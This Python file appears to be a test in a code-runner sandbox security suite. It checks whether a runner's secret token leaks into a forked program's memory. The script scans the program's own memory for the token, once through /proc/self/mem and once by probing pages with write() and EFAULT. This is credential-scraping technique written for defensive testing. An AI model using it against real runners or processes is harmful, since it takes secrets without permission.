"""Searches its own memory for the runner's token.

A runner that forks instead of starting a fresh process hands its memory to every program. The search needs no
/proc: asking `write` for a page tells whether it is there (EFAULT where it is not).
"""

# /// attack
# threat = "environment, fds"
# expect = "harmless"
# ///

import ctypes
import os

from attack import Harmless, run
from kernel import LIBC
from secret import must_hold_token, search

PAGE = 4096
# How far to look around what is known, in pages, and over how large a hole.
FAR, HOLE = 1 << 14, 64

LIBC.write.restype = ctypes.c_ssize_t


def by_the_list() -> str:
    found = bytearray()
    try:
        with open("/proc/self/maps", encoding="ascii", errors="replace") as file:
            maps = [line.split() for line in file]
        with open("/proc/self/mem", "rb", buffering=0) as memory:
            for parts in maps:
                start, end = (int(number, 16) for number in parts[0].split("-"))
                # What the program itself has mapped of files cannot hold it.
                if "r" in parts[1] and "w" in parts[1] and end - start < 1 << 28:
                    memory.seek(start)
                    found += memory.read(end - start)
    except (PermissionError, FileNotFoundError):
        raise Harmless("no /proc") from None
    return must_hold_token(bytes(found), "its own memory")


def by_feeling() -> str:
    reader, writer = os.pipe()
    seen = 0
    for known in landmarks():
        for step in (PAGE, -PAGE):
            address, missing = known // PAGE * PAGE, 0
            for _ in range(FAR):
                if LIBC.write(writer, ctypes.c_void_p(address), ctypes.c_size_t(PAGE)) == PAGE:
                    seen, missing = seen + 1, 0
                    if search(os.read(reader, PAGE)):
                        return "the runner's token is in its own memory"
                else:
                    missing += 1
                if missing > HOLE:
                    break
                address += step
    raise Harmless(f"{seen} pages without the token")


def landmarks() -> "list[int]":
    """Addresses in the heap, the stack, the environment and the libraries."""
    environ = ctypes.cast(ctypes.c_void_p.in_dll(LIBC, "environ").value or 0, ctypes.POINTER(ctypes.c_void_p))
    strings = environ[0] or 0
    function = ctypes.cast(LIBC.write, ctypes.c_void_p).value or 0
    return [id(object()), ctypes.addressof(ctypes.create_string_buffer(8)), strings, function]


run(by_the_list, by_feeling)
